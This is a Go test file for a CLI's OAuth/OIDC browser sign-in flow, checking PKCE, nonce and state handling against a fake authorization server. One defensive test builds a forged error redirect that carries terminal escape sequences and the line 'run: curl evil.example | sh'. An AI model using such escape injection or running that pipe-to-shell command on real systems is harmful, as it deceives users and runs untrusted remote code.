package login

import (
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"
)

// fakeAS is a minimal authorization server: it remembers the PKCE
// challenge and nonce of each authorization request, "approves" it by
// redirecting with a code, and at the token endpoint checks the verifier
// against the challenge before returning an ID token carrying the nonce.
type fakeAS struct {
	srv  *httptest.Server
	mu   sync.Mutex
	reqs map[string]url.Values // code → authorization request
	// deny makes the authorization endpoint redirect with an error.
	deny bool
	// badNonce makes the ID token carry another nonce.
	badNonce bool
}

func newFakeAS(t *testing.T) *fakeAS {
	as := &fakeAS{reqs: map[string]url.Values{}}
	mux := http.NewServeMux()
	as.srv = httptest.NewServer(mux)
	t.Cleanup(as.srv.Close)
	mux.HandleFunc("/.well-known/openid-configuration", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]string{"issuer": as.srv.URL, "authorization_endpoint": as.srv.URL + "/auth", "token_endpoint": as.srv.URL + "/token"})
	})
	mux.HandleFunc("/auth", func(w http.ResponseWriter, r *http.Request) {
		q := r.URL.Query()
		redirect := q.Get("redirect_uri")
		if as.deny {
			http.Redirect(w, r, redirect+"?error=access_denied&error_description=user+said+no&state="+url.QueryEscape(q.Get("state")), http.StatusFound)
			return
		}
		as.mu.Lock()
		code := fmt.Sprintf("code-%d", len(as.reqs))
		as.reqs[code] = q
		as.mu.Unlock()
		http.Redirect(w, r, redirect+"?code="+code+"&state="+url.QueryEscape(q.Get("state")), http.StatusFound)
	})
	mux.HandleFunc("/token", func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		as.mu.Lock()
		q := as.reqs[r.Form.Get("code")]
		as.mu.Unlock()
		sum := sha256.Sum256([]byte(r.Form.Get("code_verifier")))
		w.Header().Set("Content-Type", "application/json")
		if q == nil || q.Get("code_challenge_method") != "S256" || base64.RawURLEncoding.EncodeToString(sum[:]) != q.Get("code_challenge") ||
			r.Form.Get("redirect_uri") != q.Get("redirect_uri") || r.Form.Get("grant_type") != "authorization_code" {
			w.WriteHeader(http.StatusBadRequest)
			w.Write([]byte(`{"error":"invalid_grant"}`))
			return
		}
		nonce := q.Get("nonce")
		if as.badNonce {
			nonce = "replayed"
		}
		payload, _ := json.Marshal(map[string]any{"sub": "alice", "nonce": nonce})
		id := "eyJhbGciOiJub25lIn0." + base64.RawURLEncoding.EncodeToString(payload) + ".sig"
		json.NewEncoder(w).Encode(map[string]any{"access_token": "at", "token_type": "Bearer", "id_token": id})
	})
	return as
}

// browse plays the user's browser: it follows the sign-in URL and its
// redirects, down to the loopback callback.
func browse(u string) error {
	resp, err := http.Get(u)
	if err != nil {
		return err
	}
	resp.Body.Close()
	return nil
}

func TestBrowserFlow(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	as := newFakeAS(t)
	flow := BrowserFlow{Issuer: as.srv.URL, ClientID: "flakegate-cli", Open: browse}
	tok, err := flow.Run(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if unverifiedClaim(tok, "sub") != "alice" {
		t.Fatalf("token %q", tok)
	}

	t.Run("refused by the user", func(t *testing.T) {
		as.deny = true
		defer func() { as.deny = false }()
		if _, err := flow.Run(ctx); err == nil || !strings.Contains(err.Error(), "access_denied") {
			t.Fatalf("err = %v", err)
		}
	})
	t.Run("an ID token for another sign-in", func(t *testing.T) {
		as.badNonce = true
		defer func() { as.badNonce = false }()
		if _, err := flow.Run(ctx); err == nil || !strings.Contains(err.Error(), "nonce") {
			t.Fatalf("err = %v", err)
		}
	})
	t.Run("a forged redirect is ignored", func(t *testing.T) {
		// The attacker's redirect (wrong state) reaches the loopback first;
		// the flow refuses it and completes with the user's real one.
		f := flow
		f.Open = func(u string) error {
			p, _ := url.Parse(u)
			cb := p.Query().Get("redirect_uri")
			resp, err := http.Get(cb + "?code=attacker&state=forged")
			if err != nil {
				return err
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusBadRequest {
				return fmt.Errorf("forged redirect answered %d", resp.StatusCode)
			}
			return browse(u)
		}
		if _, err := f.Run(ctx); err != nil {
			t.Fatal(err)
		}
	})
	t.Run("user never comes back", func(t *testing.T) {
		short, cancel := context.WithTimeout(ctx, 300*time.Millisecond)
		defer cancel()
		f := flow
		f.Open = func(string) error { return nil }
		if _, err := f.Run(short); err == nil || !strings.Contains(err.Error(), "waiting for the browser") {
			t.Fatalf("err = %v", err)
		}
	})
}

// An error redirect may come from any local user who read the state in the
// browser's command line (ps): its text reaches the user's terminal quoted,
// never as raw control characters (review r6, 2026-12-05).
func TestForgedErrorRedirectReachesNoTerminalEscapes(t *testing.T) {
	as := newFakeAS(t)
	attacker := func(authURL string) error {
		// What `ps` shows: xdg-open <authURL>.
		u, err := url.Parse(authURL)
		if err != nil {
			return err
		}
		q := u.Query()
		cb := q.Get("redirect_uri") + "?state=" + url.QueryEscape(q.Get("state")) +
			"&error=access_denied&error_description=" + url.QueryEscape("\x1b]0;pwned\x07\x1b[2J\x1b[31mrun: curl evil.example | sh\x1b[0m")
		go func() {
			resp, err := http.Get(cb)
			if err == nil {
				resp.Body.Close()
			}
		}()
		return nil
	}
	f := BrowserFlow{Issuer: as.srv.URL, ClientID: "flakegate", Open: attacker}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	_, err := f.Run(ctx)
	if err == nil {
		t.Fatal("sign-in succeeded")
	}
	if strings.Contains(err.Error(), "\x1b") {
		t.Errorf("the error carries raw terminal escapes: %q", err.Error())
	}
}
